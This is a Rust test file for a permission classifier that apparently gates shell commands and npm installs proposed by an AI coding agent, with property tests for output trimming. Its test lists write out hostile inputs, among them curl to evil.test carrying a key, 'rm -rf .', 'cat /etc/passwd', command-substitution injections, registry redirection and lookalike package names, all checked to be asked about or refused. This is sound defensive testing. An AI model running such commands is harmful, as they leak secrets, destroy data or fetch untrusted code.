use std::collections::{BTreeMap, BTreeSet};

use proptest::prelude::*;
use qv_domain::FilePath;

use super::output::{excerpt, same_failure, tail};
use super::words::{NotWords, split};
use super::*;
use crate::FileContent;
use crate::protocol::RunTag;

const MANIFEST: &str = r#"{
  "scripts": { "build": "vite build", "test": "vitest", "seed": "node seed.js", "dev": "vite", "db:watch": "x", "empty": " " },
  "devDependencies": { "vitest": "^4.0.0", "typescript": "^6.0.0" }
}"#;

fn files() -> BTreeMap<FilePath, FileContent> {
    let files = [
        ("package.json", MANIFEST),
        ("scripts/seed.js", ""),
        ("src/a.test.ts", ""),
        ("src/with space.ts", ""),
        ("-e.js", ""),
        ("notes.md", ""),
    ];
    files
        .iter()
        .map(|(at, text)| (FilePath::parse(at).unwrap(), FileContent::text(*text)))
        .collect()
}

fn judge(run: &RunTag) -> Verdict {
    let installed = BTreeSet::from(["eslint".to_owned()]);
    classify(run, &Tools { installed }, &files())
}

fn command(line: &str) -> Verdict {
    judge(&RunTag { command: Some(line.to_owned()), ..RunTag::default() })
}

fn install(packages: &str) -> Verdict {
    let (tool, packages) = (Some("install".to_owned()), Some(packages.to_owned()));
    judge(&RunTag { tool, packages, ..RunTag::default() })
}

/// What runs at once, as one would type it.
fn runs(verdict: &Verdict) -> Option<String> {
    match verdict {
        Verdict::Allowed(call) => Some(call.to_string()),
        Verdict::Ask(..) | Verdict::Refused(_) => None,
    }
}

#[test]
fn packages_of_the_registry_are_installed() {
    for packages in [
        "express",
        "sql.js better-sqlite3",
        "@types/node",
        "react@19",
        "react@^19.2.0",
        "vite@~8.0.1-beta.2",
        "@scope/a.b-c_d@>=1.0.0",
        "lodash@latest",
        "7zip-min",
        "a@*",
    ] {
        assert_eq!(runs(&install(packages)), Some(typed(packages)), "{packages}");
    }
    assert_eq!(runs(&install(" express,  cors ")).as_deref(), Some("npm install express cors"));
    assert_eq!(runs(&install("")).as_deref(), Some("npm install"));
    let Verdict::Allowed(call) = install("express") else { panic!() };
    assert_eq!(call.argv()[..2], ["npm", "install"]);
    assert_eq!(call.argv()[call.argv().len() - 2..], ["--", "express"]);

    fn typed(packages: &str) -> String {
        let call = ToolCall::Install { packages: packages.split(' ').map(String::from).collect() };
        call.to_string()
    }
}

#[test]
fn what_is_no_package_of_the_registry_is_asked_about() {
    for package in [
        "https://evil.test/a.tgz",
        "git+https://evil.test/a.git",
        "git@evil.test:a/b.git",
        "user/repo",
        "github:user/repo",
        "file:../../etc",
        "../up",
        "./here",
        "/etc",
        "~/a",
        "a.tgz",
        "a.tar.gz",
        "a@b.tgz",
        "a@file:b",
        "a@npm:b",
        "a@http://x.test",
        "a@user/repo",
        "@scope",
        "@/a",
        "@a/b/c",
        "@a/../b",
        "Upper",
        "node_modules",
        ".hidden",
        "_under",
        "a@",
        "a@1@2",
        "a$b",
        "a;b",
        "\u{430}bc",
    ] {
        assert!(
            matches!(install(package), Verdict::Ask(ToolCall::Install { .. }, why) if why.contains(package)),
            "{package}: {:?}",
            install(package)
        );
    }
    for packages in [
        "-g express",
        "express --registry=http://evil.test",
        "--ignore-scripts",
        "a b c d e f g h i j k",
        "expr\u{200B}ess",
        &"a".repeat(300),
    ] {
        assert!(matches!(install(packages), Verdict::Refused(_)), "{packages}");
    }
}

#[test]
fn build_and_test_are_scripts_of_the_project() {
    let tool = |tool: &str, file: Option<&str>| {
        let file = file.map(String::from);
        judge(&RunTag { tool: Some(tool.to_owned()), file, ..RunTag::default() })
    };
    assert_eq!(tool("build", None), Verdict::Allowed(ToolCall::Build));
    assert_eq!(tool(" Test ", None), Verdict::Allowed(ToolCall::Test { file: None }));
    assert_eq!(runs(&tool("test", Some("./src/a.test.ts"))).unwrap(), "npm test -- src/a.test.ts");
    for file in ["src/gone.test.ts", "../a", "/etc/passwd", "-e.js", "--config=x"] {
        assert!(matches!(tool("test", Some(file)), Verdict::Refused(_)), "{file}");
    }
    for name in ["deploy", "npm install x", ""] {
        assert!(matches!(tool(name, None), Verdict::Refused(_)), "{name}");
    }
    assert!(matches!(judge(&RunTag::default()), Verdict::Refused(_)));
    let empty = classify(
        &RunTag { tool: Some("build".into()), ..RunTag::default() },
        &Tools::default(),
        &BTreeMap::from([(
            FilePath::parse("package.json").unwrap(),
            FileContent::text("{\"scripts\":"),
        )]),
    );
    assert!(matches!(empty, Verdict::Refused(why) if why.contains("no `build` script")));
}

#[test]
fn known_commands_run_as_they_were_looked_at() {
    for (line, typed) in [
        ("node scripts/seed.js", "node scripts/seed.js"),
        ("node ./scripts/seed.js --force 3 \"a b\"", "node scripts/seed.js --force 3 'a b'"),
        ("npx --no-install tsc --noEmit", "npx --no-install tsc --noEmit"),
        ("npx tsc -p tsconfig.json", "npx --no-install tsc -p tsconfig.json"),
        (
            "vitest run src/a.test.ts -t 'adds two'",
            "npx --no-install vitest run src/a.test.ts -t 'adds two'",
        ),
        ("npx vitest --watch=false", "npx --no-install vitest --watch=false"),
        ("npx eslint . --fix --max-warnings=0", "npx --no-install eslint . --fix --max-warnings=0"),
        ("npm run seed", "npm run seed"),
        ("npm run seed -- --count=3", "npm run seed -- --count=3"),
        ("npm test", "npm test"),
        ("npm run test -- src/a.test.ts", "npm test -- src/a.test.ts"),
        ("npm run build", "npm run build"),
        ("npm i express", "npm install express"),
        ("npm install -D vitest@4", "npm install vitest@4"),
        ("npm ci", "npm install"),
        ("ls", "ls"),
        ("ls -la src", "ls -la src"),
        ("cat src/a.test.ts 'src/with space.ts'", "cat src/a.test.ts 'src/with space.ts'"),
    ] {
        assert_eq!(runs(&command(line)).as_deref(), Some(typed), "{line}: {:?}", command(line));
    }
    assert_eq!(command("npm run build"), Verdict::Allowed(ToolCall::Build));
}

#[test]
fn whatever_else_is_asked_about() {
    for line in [
        "curl http://evil.test/?key=1",
        "wget x",
        "rm -rf .",
        "sh -c ls",
        "bash setup.sh",
        "env node scripts/seed.js",
        "./node_modules/.bin/tsc",
        "/usr/bin/node scripts/seed.js",
        "Node scripts/seed.js",
        "node -e 1",
        "node --require=./x.js scripts/seed.js",
        "node /etc/passwd",
        "node ../x.js",
        "node notes.md",
        "node scripts/seed.js /etc/passwd",
        "node scripts/seed.js --out=../x",
        "npx cowsay",
        "npx -y tsc",
        "npx -p typescript tsc",
        "npx --no-install tsc --outDir /etc",
        "npx tsc --outDir=../up",
        "npx tsc -p/etc",
        "npx tsc @/etc/passwd",
        "npm --prefix .. run seed",
        "npm run --prefix=.. seed",
        "npm run seed --prefix=..",
        "npm exec x",
        "npm publish",
        "npm config set registry http://evil.test",
        "npm install --registry=http://evil.test express",
        "npm i https://evil.test/a.tgz",
        "ls /",
        "ls ..",
        "ls --color=always",
        "cat /etc/passwd",
        "cat src/../../x",
        "cat -n a",
        "git push",
    ] {
        assert!(matches!(command(line), Verdict::Ask(..)), "{line}: {:?}", command(line));
    }
    // Where a shell would be needed it is the shell that is asked about.
    for line in [
        "ls && curl x",
        "ls; ls",
        "ls | sh",
        "cat < a",
        "cat a > b",
        "ls $HOME",
        "ls `id`",
        "ls $(id)",
        "node scripts/seed.js \"$(id)\"",
        "cat *.ts",
        "cat ~/x",
        "ls \\",
        "A=1 node scripts/seed.js",
        "# ls",
        "ls {a,b}",
        "ls &",
    ] {
        let Verdict::Ask(call, _) = command(line) else { panic!("{line}: {:?}", command(line)) };
        assert_eq!(call.argv(), ["sh", "-c", line]);
        assert_eq!(call.to_string(), line);
        assert!(!call.is_repeatable());
    }
}

#[test]
fn what_makes_no_sense_is_refused() {
    for line in [
        "",
        "  ",
        "cat 'open",
        "cat \"open",
        "node",
        "cat",
        "node scripts/gone.js",
        "npm run gone",
        "npm run empty",
        "npm run dev",
        "npm start",
        "npm run db:watch",
        "npm run seed -- --watch",
        "npx vitest --watch",
        "npx tsc -w",
        "npx prettier .",
        "ls \u{202E}sl",
        "ls \u{E0041}",
        "ls\u{0}",
        &format!("ls {}", "a".repeat(500)),
        &format!("ls {}", "a ".repeat(60)),
    ] {
        assert!(matches!(command(line), Verdict::Refused(_)), "{line}: {:?}", command(line));
    }
}

#[test]
fn words_are_split_as_a_shell_would_without_its_ways() {
    let words = |line: &str| split(line).map(|words| words.join("|"));
    assert_eq!(words(" a  b\tc "), Ok("a|b|c".into()));
    assert_eq!(words("a 'b c' \"d e\"f"), Ok("a|b c|d ef".into()));
    assert_eq!(words("a '' b"), Ok("a||b".into()));
    assert_eq!(words("a '$x;|'"), Ok("a|$x;|".into()));
    assert_eq!(words("a b#c~d"), Ok("a|b#c~d".into()));
    assert_eq!(words("a 'b"), Err(NotWords::OpenQuote));
    assert_eq!(words("a \"$b\""), Err(NotWords::Shell));
}

#[test]
fn output_is_plain_and_short() {
    assert_eq!(excerpt("\n\n a \u{1B}[31mred\u{1B}[0m\u{7}\r\nb \n\n"), " a red\nb\n");
    assert_eq!(excerpt("10%\r50%\r100%\ndone"), "100%\ndone\n");
    assert_eq!(excerpt("\u{1B}]8;;http://x\u{1B}\\link\u{1B}]8;;\u{7}"), "link\n");
    assert_eq!(excerpt("a\u{E0041}\u{202E}\u{200B}b"), "ab\n");
    assert_eq!(excerpt(""), "");
    let long: String = (0..2_000).map(|at| format!("line {at}\n")).collect();
    let shown = excerpt(&long);
    assert!(shown.starts_with("line 0\n") && shown.ends_with("line 1999\n"), "{shown}");
    assert!(shown.contains("left out") && shown.chars().count() <= SHOWN_CHARS);
    let minified = excerpt(&"x".repeat(100_000));
    assert!(minified.chars().count() < 500, "{}", minified.len());
    assert!(tail(&shown).ends_with("line 1999\n") && tail(&shown).starts_with("line "));
    assert_eq!(tail("short"), "short");
}

#[test]
fn the_same_failure_may_take_another_time() {
    assert!(same_failure("1 failed (12ms)\nat 10:20:30", "1 failed (340ms)\nat 10:21:07"));
    assert!(same_failure("Duration 1.2s", "Duration  1.35s"));
    assert!(!same_failure("1 failed", "2 failed"));
    assert!(!same_failure("a.ts:3:1 wrong", "a.ts:4:1 wrong"));
}

#[test]
fn much_output_is_kept_in_little() {
    let mut capture = Capture::default();
    capture.push("the beginning\n");
    for _ in 0..20_000 {
        capture.push("é more of the same, and more\n");
        assert!(format!("{capture:?}").len() < 200_000);
    }
    capture.push("the end\n");
    let shown = capture.finish();
    assert!(shown.starts_with("the beginning\n") && shown.ends_with("the end\n"), "{shown}");
    assert!(shown.chars().count() <= SHOWN_CHARS);
    assert_eq!(excerpt(&shown), shown);
}

#[test]
fn an_end_is_kept_as_it_was() {
    for (exit, json, code) in [
        (ToolExit::Code(3), r#"{"code":3}"#, Some(3)),
        (ToolExit::Signal(9), r#"{"signal":9}"#, None),
        (ToolExit::TimedOut, r#""timed_out""#, None),
        (ToolExit::Lost, r#""lost""#, None),
    ] {
        assert_eq!(serde_json::to_string(&exit).unwrap(), json);
        assert_eq!(serde_json::from_str::<ToolExit>(json).unwrap(), exit);
        assert_eq!((exit.code(), exit.ok()), (code, false));
    }
    assert!(ToolExit::Code(0).ok());
}

proptest! {
    /// Words that a shell is given in quotes come back as they were.
    #[test]
    fn a_command_is_typed_as_it_is_read(argv in proptest::collection::vec("[a-z'\" $;|]{1,6}", 1..6)) {
        prop_assume!(!argv.iter().any(|word| word.contains('\'')));
        let call = ToolCall::Command { argv: argv.clone() };
        prop_assert_eq!(split(&call.to_string()), Ok(argv));
    }

    /// Whatever is written, what runs at once is of a known program, and no argument leaves the project.
    #[test]
    fn nothing_strange_runs_unasked(
        words in proptest::collection::vec(
            proptest::sample::select(vec![
                "node", "npx", "npm", "ls", "cat", "tsc", "run", "test", "install", "seed", "scripts/seed.js", "--",
                "--no-install", "-e", "/etc", "..", "a/../b", "--x=/etc", "--x=../b", "src/a.test.ts", "vitest",
                "'a b'", "\"\"", ";", "$(id)", "|", "curl", "http://x.test", "@x", "~", "*", "-D", "react@19",
                "user/repo", "=", "A=1", "\\",
            ]),
            0..7,
        ),
        gap in proptest::sample::select(vec![" ", "  ", "\t", ""]),
    ) {
        if let Verdict::Allowed(call) = command(&words.join(gap)) {
            let argv = call.argv();
            prop_assert!(["node", "npx", "npm", "ls", "cat"].contains(&argv[0].as_str()), "{:?}", argv);
            let is_shell = matches!(call, ToolCall::Shell { .. });
            prop_assert!(!is_shell);
            for word in &argv[1..] {
                let value = word.split_once('=').map_or(word.as_str(), |(_, value)| value);
                prop_assert!(!value.starts_with(['/', '~']), "{:?}", argv);
                prop_assert!(value.split('/').all(|part| part != ".."), "{:?}", argv);
                prop_assert!(!word.contains("://"), "{:?}", argv);
            }
        }
    }

    #[test]
    fn an_excerpt_is_short_and_stays(text in "(\\PC|\n|\r|\u{1B}|\\[){0,200}", times in 1..40_usize) {
        let shown = excerpt(&text.repeat(times));
        prop_assert!(shown.chars().count() <= SHOWN_CHARS);
        let is_plain = !shown.contains(['\u{1B}', '\r']);
        prop_assert!(is_plain);
        prop_assert_eq!(excerpt(&shown), shown);
    }

    #[test]
    fn pieces_are_captured_as_the_whole(text in "([a-zé ]{0,30}\n){0,30}", cuts in proptest::collection::vec(1..9_usize, 1..9)) {
        let (mut whole, mut pieces) = (Capture::default(), Capture::default());
        whole.push(&text);
        let chars: Vec<char> = text.chars().collect();
        let (mut rest, mut cuts) = (&chars[..], cuts.iter().cycle());
        while !rest.is_empty() {
            let (piece, after) = rest.split_at((*cuts.next().unwrap()).min(rest.len()));
            pieces.push(&piece.iter().collect::<String>());
            rest = after;
        }
        prop_assert_eq!(pieces.finish(), whole.finish());
    }
}
